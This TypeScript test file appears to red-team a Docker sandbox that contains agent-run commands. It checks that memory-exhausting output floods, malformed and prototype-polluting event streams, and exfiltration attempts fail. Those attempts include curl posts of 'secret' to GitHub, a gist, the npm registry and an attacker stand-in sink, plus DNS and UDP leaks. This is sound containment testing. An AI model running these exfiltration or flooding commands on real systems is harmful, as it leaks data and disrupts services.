import { createServer } from 'node:http';
import { once } from 'node:events';

import { containerName } from '../../../../src/sandbox/docker/container-names.ts';
import { demand, type Attack, type Seen } from '../attack.ts';
import { portOf } from '../../../support/port-of.ts';
import { documents, ending, FINISHED, hostileRun } from '../hostile-run.ts';
import { host } from '../in-container.ts';
import { docker } from '../rig.ts';

const MEBIBYTE = 1024 * 1024;
const GROWTH_MAX_BYTES = 200 * MEBIBYTE;
const KEPT_MAX_CHARS = 4 * MEBIBYTE;

/** What is more than a reader can hold, by what writes it. */
const FLOODS: readonly (readonly [attempted: string, script: string])[] = [
  ['one line of 200 MB', `head -c 200000007 /dev/zero | tr '\\0' x; echo`],
  ['300,000 lines', 'seq 300000'],
  ['20 MB that are not UTF-8', `head -c 20M /dev/zero | tr '\\0' '\\377' | fold -w 4000; echo`],
];

const BOMBS: readonly Attack[] = FLOODS.map(([attempted, script]) => ({
  id: 'T-41',
  attempted: `take the worker's memory by its output: ${attempted}`,
  control: { off: 'a reader that keeps all of it' },
  async attempt(rig) {
    const before = process.memoryUsage.rss();
    const seen = { peak: before };
    const timer = setInterval(() => (seen.peak = Math.max(seen.peak, process.memoryUsage.rss())), 20);
    try {
      const { result, hasRun, command } = await rig.execute(script, { command: { deadlineMs: 60_000 } });
      if (!hasRun) throw new Error(`it did not come to its end: ${result.ending}`);
      if (rig.isLoose) {
        const log = await docker.getContainer(containerName(command)).logs({ stdout: true, stderr: true });
        const isMuch = log.length > 1.5 * MEBIBYTE && log.length > result.stdout.length / 2;
        return { hasSucceeded: isMuch, evidence: `all of it is ${mebibytes(log.length)} MiB` };
      }
      const growth = seen.peak - before;
      const kept = result.stdout.length;
      return {
        hasSucceeded: growth > GROWTH_MAX_BYTES || kept > KEPT_MAX_CHARS,
        evidence: `the worker grew by ${mebibytes(growth)} MiB and keeps ${mebibytes(kept)}`,
      };
    } finally {
      clearInterval(timer);
    }
  },
}));

function mebibytes(bytes: number): number {
  return Math.round(bytes / MEBIBYTE);
}

const GARBAGE: Attack = {
  id: 'T-41',
  attempted: 'upset who reads its events: broken UTF-8, NULs, JSON of 100,000 levels, events that are none',
  control: { none: 'no reader without the care is at hand; the run has to succeed all the same' },
  async attempt(rig) {
    const garbage = `head -c 100000 /dev/urandom; printf '\\n\\0\\n{"type":"fini\\n{"type":42}\\n[]\\nnull\\n{"type":"used","usage":{"inputTokens":1e999}}\\n'
head -c 100000 /dev/zero | tr '\\0' '['; echo; head -c 100000 /dev/zero | sed 's/\\x0/{"a":/g'; echo
printf '{"type":"__proto__","__proto__":{"x":1}}\\n'`;
    let seen: Seen | undefined;
    await hostileRun(rig, {
      behave: (invocation) => `${garbage}\n${documents(invocation)}\n${FINISHED}`,
      look: ({ run }) => {
        seen = { hasSucceeded: run.status !== 'succeeded', evidence: ending(run) };
      },
    });
    return demand(seen);
  },
};

/** To services that anybody may write to, and to a sink that stands for the attacker. */
const EXFILTRATION: Attack = {
  id: 'T-17',
  attempted: 'send something out: api.github.com, a gist, a push, a registry, DNS, an attacker',
  control: { off: 'the network of the host, and no proxy' },
  async attempt(rig) {
    const hits: string[] = [];
    const sink = createServer((request, response) => {
      hits.push(request.url ?? '');
      response.end('sink');
    });
    sink.listen(0, '0.0.0.0');
    await once(sink, 'listening');
    const port = portOf(sink);
    const script = `
${rig.isLoose ? 'unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy' : ''}
for url in https://api.github.com/user https://gist.github.com https://registry.npmjs.org "http://127.0.0.1:$SINK_PORT/$NONCE" "http://172.17.0.1:$SINK_PORT/$NONCE"; do
  ${rig.isLoose ? 'case $url in https*) continue ;; esac' : ''}
  curl -sSf -m 4 -d secret "$url" > /dev/null 2>&1 && reached "$url"
  ${rig.isLoose ? '' : 'curl -sSf -m 4 --noproxy "*" -d secret "$url" > /dev/null 2>&1 && reached "$url"'}
done
${rig.isLoose ? '' : 'timeout 4 git ls-remote https://github.com/torvalds/linux HEAD > /dev/null 2>&1 && reached git'}
python3 - <<'PYTHON'
import os, socket
for name in ('secret.attacker.test', 'api.github.com'):
    try:
        socket.getaddrinfo(name, 443)
        print('reached-' + os.environ['NONCE'], 'looked up', name)
    except OSError:
        pass
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b'secret', ('1.1.1.1', 53))
    print('reached-' + os.environ['NONCE'], 'DNS')
except OSError:
    pass
PYTHON`;
    const { reached, hasRun } = await rig.execute(script, {
      command: { needsNetwork: true, env: { SINK_PORT: String(port) } },
      loosen: rig.isLoose ? host(() => ({ NetworkMode: 'host' })) : undefined,
    });
    sink.close();
    if (!hasRun) throw new Error('it did not come to its end');
    const hasSucceeded = rig.isLoose ? hits.length > 0 : hits.length + reached.length > 0;
    return {
      hasSucceeded,
      evidence: `${hits.length} hits at the sink; reached: ${reached.join(', ') || 'nothing'}`,
    };
  },
};

/** What an agent writes and sends. */
export const OUTPUT: readonly Attack[] = [EXFILTRATION, ...BOMBS, GARBAGE];
